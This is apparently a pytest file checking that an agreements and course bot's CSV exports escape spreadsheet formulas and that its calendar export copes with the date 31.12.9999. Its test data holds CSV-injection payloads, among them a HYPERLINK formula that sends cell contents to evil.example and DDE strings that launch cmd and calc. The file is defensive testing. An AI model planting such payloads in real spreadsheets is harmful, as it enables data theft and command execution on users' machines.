"""Files that others open (issue 13): every CSV export writes text that Excel would run as a
formula as plain text; the iCalendar export survives an end date of 31.12.9999."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from icalendar import Calendar

from agreements_sync.sync import sync_export
from bot.alerts.overview import overview, to_csv, to_ics
from bot.announcements.models import Announcement
from bot.announcements.service import Report, ReportLine, report_csv
from bot.cli import cli
from bot.courses import service as courses
from bot.db import Database
from bot.exports import csv_text, spreadsheet_safe
from bot.services import User
from tests.conftest import AS_OF
from tests.test_sync import reference_table, set_cell, write_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Åpne")', "+47 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_excel_would_run_is_written_as_text(text: str) -> None:
    expected = "'" + text.replace("\r", "\n")
    assert spreadsheet_safe(text) == expected
    header, row = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]).removeprefix("\ufeff")), delimiter=";"))
    assert header == ["a"] and row == [expected]


def test_numbers_and_ordinary_text_are_kept() -> None:
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe("Kontorstoler") == "Kontorstoler" and spreadsheet_safe("2026-11-24") == "2026-11-24"
    assert spreadsheet_safe("") == "" and spreadsheet_safe(None) is None


def _register_with(tmp_path: Path, reference_register: Path, **cells: str) -> Path:
    headers, rows = reference_table(reference_register)
    agreement = next(i for i, r in enumerate(rows) if r[headers.index("Status")] == "Aktiv" and r[headers.index("Dokument")])
    for column, value in cells.items():
        rows[agreement] = set_cell(headers, rows[agreement], column, value)
    return write_csv(tmp_path / "register.csv", headers, rows), rows[agreement][0]


def test_the_deadline_export_escapes_register_text(database: Database, tmp_path: Path, reference_register: Path) -> None:
    path, agreement_id = _register_with(tmp_path, reference_register, Avtalenavn=HOSTILE[0], Avtaleeier="@SUM(1+1)",
                                        **{"Innkjøpsrådgiver": "-2+3"})
    assert sync_export(database.engine, path, as_of=AS_OF).ok
    with database.session() as session:
        rows = overview(session, AS_OF)
    exported = list(csv.DictReader(io.StringIO(to_csv(rows).removeprefix("\ufeff")), delimiter=";"))
    mine = [row for row in exported if row["agreement_id"] == agreement_id]
    assert mine, "the agreement has milestones"
    for row in mine:
        assert row["title"] == "'" + HOSTILE[0] and row["owner"] == "'@SUM(1+1)" and row["adviser"] == "'-2+3"
    assert all(not value.startswith(("=", "+", "-", "@")) for row in exported for value in row.values())


def test_the_attendee_export_escapes_names(database: Database) -> None:
    start = dt.datetime(2026, 12, 3, 8, 0, tzinfo=dt.UTC)
    with database.session() as session:
        course = courses.create_course(session, title="=1+1 kurs", starts_at=start, ends_at=start + dt.timedelta(hours=1),
                                       now=dt.datetime(2026, 11, 24, tzinfo=dt.UTC), place="Rådhuset", capacity=5)
        courses.sign_up(session, course.id, User(aad_object_id="aad-1", name="=cmd|' /C calc'!A0", email="a@b.no"),
                        dt.datetime(2026, 11, 24, tzinfo=dt.UTC))
    with database.session() as session:
        text = courses.participants_csv(courses.course_view(session, course.id), courses.participants(session, course.id))
    row = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))[0]
    assert row["course_title"] == "'=1+1 kurs" and row["name"] == "'=cmd|' /C calc'!A0"


def test_the_announcement_report_escapes_names() -> None:
    announcement = Announcement(id=7, title="Nytt", text="Tekst", audience="all", created_by="x@y.no")
    report = Report(announcement, [ReportLine(name="+4799999999", email="@evil.example", aad_object_id="a", status="sent",
                                               detail="=BAD()")])
    row = list(csv.DictReader(io.StringIO(report_csv(report).removeprefix("\ufeff")), delimiter=";"))[0]
    assert (row["name"], row["email"], row["detail"]) == ("'+4799999999", "'@evil.example", "'=BAD()")


def test_an_end_date_of_31_12_9999_does_not_break_the_calendar_export(
    database: Database, tmp_path: Path, reference_register: Path
) -> None:
    path, agreement_id = _register_with(tmp_path, reference_register, Sluttdato="31.12.9999", **{"Maks sluttdato": "31.12.9999"})
    report = sync_export(database.engine, path, as_of=AS_OF)
    assert report.ok, report.message("en")
    with database.session() as session:
        rows = overview(session, AS_OF)
    assert any(r["agreement_id"] == agreement_id and r["due"] == dt.date(9999, 12, 31) for r in rows)
    events = Calendar.from_ical(to_ics(rows)).walk("VEVENT")
    last = [e for e in events if e.decoded("dtstart") == dt.date(9999, 12, 31)]
    assert last and "DTEND" not in last[0]  # one day, without a next day that does not exist
    assert len(events) == len(rows)


def test_cli_exports_of_a_hostile_register(tmp_path: Path, reference_register: Path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    path, agreement_id = _register_with(tmp_path, reference_register, Avtalenavn="=2+5", Sluttdato="31.12.9999",
                                        **{"Maks sluttdato": "31.12.9999"})
    runner = CliRunner()
    assert runner.invoke(cli, ["--database", url, "--as-of", AS_OF.isoformat(), "sync", str(path)]).exit_code == 0
    exported = runner.invoke(cli, ["--database", url, "--as-of", AS_OF.isoformat(), "alerts", "export", "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    assert f"{agreement_id};'=2+5;" in exported.output
    ics = runner.invoke(cli, ["--database", url, "--as-of", AS_OF.isoformat(), "alerts", "export", "--format", "ics",
                              "--out", str(tmp_path / "frister.ics")])
    assert ics.exit_code == 0, ics.output
